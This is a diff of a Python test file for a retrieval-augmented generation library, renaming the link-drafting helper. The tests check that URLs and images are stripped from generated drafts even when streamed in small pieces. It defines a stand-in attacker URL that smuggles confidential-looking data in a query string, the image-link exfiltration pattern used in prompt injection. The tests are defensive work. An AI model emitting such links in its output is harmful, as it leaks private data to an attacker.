@@ -7,7 +7,7 @@ from __future__ import annotations
 import pytest
 
 from ragwright.generate.grounded import check_citations
-from ragwright.generate.links import LINK_REMOVED, DraftLinks, defang
+from ragwright.generate.links import LINK_REMOVED, defang, draft_links
 from ragwright.types import SearchResult
 
 EVIL = "https://evil.example/c.png?d=bonus-pool-4711000-CEO"
@@ -36,7 +36,7 @@ def test_no_image_or_url_stays_that_no_single_passage_holds(text):
 @pytest.mark.parametrize("size", [1, 2, 3, 4, 7, 16])
 @pytest.mark.parametrize("text", ATTACKS)
 def test_a_draft_in_any_pieces_carries_no_part_of_a_url(text, size):
-    draft, deltas = DraftLinks(), []
+    draft, deltas = draft_links(), []
     for i in range(0, len(text), size):
         deltas.append(draft.feed(text[i : i + size]))
     deltas.append(draft.end())
